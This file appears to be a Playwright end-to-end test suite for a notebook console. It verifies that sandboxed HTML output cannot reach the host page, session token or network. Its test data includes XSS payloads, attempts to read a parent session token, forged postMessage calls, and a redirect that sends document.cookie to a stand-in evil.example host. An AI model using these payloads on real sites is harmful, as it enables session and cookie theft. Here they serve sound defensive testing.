"""Output is hostile: nothing that a cell prints reaches the page, the token, or the network."""

from __future__ import annotations

import time

from playwright.sync_api import Page, expect

from tests.e2e.support import whole_system

from .conftest import TIMEOUT_MS, Console, OpenPage
from .test_watching import see

pytestmark = whole_system

HTML = """
<p id=shown>shown</p><script>document.title = 'hacked'; parent.hacked = 1; window.ran = 1</script>
<img src=x onerror="window.ran = 2"><img src="https://evil.example/pixel.png">
<link rel=stylesheet href="https://evil.example/style.css"><iframe src="https://evil.example/"></iframe>
<meta http-equiv=refresh content="0;url=https://evil.example/"><base target=_top>
<form action="https://evil.example/"><button>go</button></form>
<a href="javascript:window.ran=3" target=_top>link</a>
"""
ATTACK = """
<p id=shown>runs</p><script>
window.found = {};
const attempt = (name, work) => {
  try { window.found[name] = String(work()); } catch (error) { window.found[name] = 'refused'; }
};
attempt('token', () => parent.sessionStorage.getItem('kernelbroker.token'));
attempt('own storage', () => sessionStorage.length);
attempt('document', () => parent.document.title);
attempt('top', () => { top.location = 'https://evil.example/'; });
attempt('opened', () => window.open('https://evil.example/'));
for (const [name, url] of [['fetch', 'https://evil.example/'], ['api', '/api/v1/sessions']])
  fetch(url).then(() => window.found[name] = 'sent', () => window.found[name] = 'refused');
for (const height of [1e9, -5, 'x', null, {valueOf: 1}]) parent.postMessage({height}, '*');
parent.postMessage({ready: true, html: '<script>1</script>', token: 1}, '*');
parent.postMessage(null, '*');
setTimeout(() => { location = 'https://evil.example/?' + document.cookie; }, 50);
</script>
"""
BLOCKED = (
    "Content Security Policy",
    "sandbox",
    "Unsafe attempt",
    "ERR_",
    "blocked",
    "Blocked",
    "Framing",
)


def frame_of(page: Page, number: int = 0):  # type: ignore[no-untyped-def]
    page.locator("iframe").nth(number).wait_for()
    found = [each for each in page.frames if "/console/frame" in each.url]
    return found[number]


def test_html_cannot_reach_the_page_or_the_network(console: Console, open_page: OpenPage) -> None:
    """Scripts of HTML output do not run. Run on demand, they do not reach the page or a network."""
    with console.session("html") as session:
        session.run(f"from IPython.display import HTML; display(HTML({HTML!r}))")
        session.run(f"display(HTML({ATTACK!r}))")
        page = open_page("#/sessions/html", expected=BLOCKED)
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.evaluate("document.querySelector('.stream').scrollTop = 0")
        see(page, ".output-foot", "Scripts of this output are off.")
        first = page.frame_locator("iframe").first
        expect(first.locator("#shown")).to_have_text("shown", timeout=TIMEOUT_MS)
        assert frame_of(page).evaluate("[window.ran, window.origin]") == [None, "null"]
        page.locator(".cell").nth(1).get_by_role("button", name="Run them").click()
        second = page.frame_locator("iframe").nth(1)
        expect(second.locator("#shown")).to_have_text("runs", timeout=TIMEOUT_MS)
        page.wait_for_function("document.querySelectorAll('iframe')[1].style.height !== '60px'")
        assert page.evaluate("[document.title.includes('hacked'), window.hacked]") == [False, None]
        height = page.evaluate("parseInt(document.querySelectorAll('iframe')[1].style.height)")
        assert 20 <= height <= 1200
        assert "kernelbroker" in page.title()
        see(page, "h1", "html")
        assert [url for url in asked if "evil.example" in url and "chrome-error" not in url] == []


def test_what_scripts_in_the_frame_find(console: Console, open_page: OpenPage) -> None:
    """Each attempt of a script in the frame is refused by the browser."""
    quiet = ATTACK.replace("setTimeout(() => { location", "(() => { window.never").replace(
        ", 50);", ");"
    )
    with console.session("attempts") as session:
        session.run(f"from IPython.display import HTML; display(HTML({quiet!r}))")
        page = open_page("#/sessions/attempts", expected=BLOCKED)
        page.get_by_role("button", name="Run them").click()
        expect(page.frame_locator("iframe").locator("#shown")).to_have_text(
            "runs", timeout=TIMEOUT_MS
        )
        frame = frame_of(page)
        frame.wait_for_function("window.found.fetch && window.found.api")
        found = frame.evaluate("window.found")
        assert found.pop("opened") in ("null", "refused")
        assert found == dict.fromkeys(
            ("token", "own storage", "document", "top", "fetch", "api"), "refused"
        )


def test_forged_messages_change_nothing(console: Console, open_page: OpenPage) -> None:
    """Messages of other windows are ignored, and those of a frame set at most its height."""
    with console.session("forged") as session:
        session.run("from IPython.display import HTML; display(HTML('<b>small</b>'))")
        page = open_page("#/sessions/forged")
        expect(page.frame_locator("iframe").locator("b")).to_be_visible(timeout=TIMEOUT_MS)
        page.wait_for_function("document.querySelector('iframe').style.height !== '60px'")
        before = page.locator("iframe").get_attribute("style")
        page.evaluate("postMessage({height: 999}, '*'); postMessage({ready: true}, '*')")
        page.evaluate("new Promise(done => setTimeout(done, 100))")
        assert page.locator("iframe").get_attribute("style") == before


def test_markup_in_text_stays_text(console: Console, open_page: OpenPage) -> None:
    """Text, names of variables and files, errors, metadata and SVG pictures with markup are only shown."""
    evil = "<img src=x onerror='window.hacked=1'><script>window.hacked=1</script>"
    with console.session("markup") as session:
        session.run(f"print({evil!r})")
        session.run(f"raise ValueError({evil!r})")
        session.run(f"open({evil.replace('/', '')!r}, 'w').write('x')")
        script = "<script>top.hacked=1</script>"
        svg = f"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'>{script}</svg>"
        session.run(f"from IPython.display import SVG; display(SVG({svg!r}))")
        session.run("display({'text/latex': '<script>window.hacked=1</script>'}, raw=True)")
        session.run(
            "print('\\x1b]0;title\\x07\\x1b[38;2;1;2;300mx\\x1b[999999999A\\x1b[999999999B\\b\\b\\b\\x1b[')"
        )
        console.call("PATCH", "/sessions/markup", {"metadata": {"note": evil}})
        page = open_page("#/sessions/markup")
        see(page, ".line", "<script>window.hacked=1</script>")
        see(page, "img.output-image")
        for tab in ("Files", "About"):
            page.get_by_role("tab", name=tab).click()
            see(page, ".side", "onerror")
        assert page.evaluate("window.hacked") is None


def test_a_hundred_thousand_lines_stay_smooth(console: Console, open_page: OpenPage) -> None:
    """With 100,000 lines the page holds a screenful of them, answers at once, and shows any of them."""
    with console.session("lines") as session:
        session.run("for i in range(100_000): print('line', i, 'x' * 60)")
        page = open_page("#/sessions/lines")
        see(page, ".output-foot", "100,000 lines")
        see(page, ".line", "line 99999 ")
        assert page.locator(".line").count() < 120
        text = page.locator(".text.long")
        text.evaluate("each => { each.scrollTop = each.scrollHeight / 2; }")
        see(page, ".line", "line 50000 ")
        slowest = page.evaluate(
            """async () => {
              const box = document.querySelector('.text.long');
              let slowest = 0, last = performance.now();
              for (let step = 0; step < 60; step++) {
                box.scrollTop = step * 30000;
                await new Promise(requestAnimationFrame);
                slowest = Math.max(slowest, performance.now() - last);
                last = performance.now();
              }
              return slowest;
            }"""
        )
        assert slowest < 1000, "on an idle machine it is some 20 ms"
        text.evaluate("each => { each.scrollTop = 0; }")
        see(page, ".line", "line 0 ")
        session.run("print('the page still follows')")
        see(page, ".line", "the page still follows")


def test_ten_megabytes_in_long_lines(console: Console, open_page: OpenPage) -> None:
    """10 MB of output in a few endless lines are cut where they are shown, and the page stays usable."""
    with console.session("long") as session:
        session.run("for i in range(10): print('y' * 1_000_000)")
        page = open_page("#/sessions/long")
        see(page, ".cut", "more characters")
        began = time.monotonic()
        page.get_by_role("tab", name="About").click()
        see(page, ".about", "Isolation")
        assert time.monotonic() - began < 20
        assert page.evaluate("document.querySelector('.output').innerText.length") < 100_000
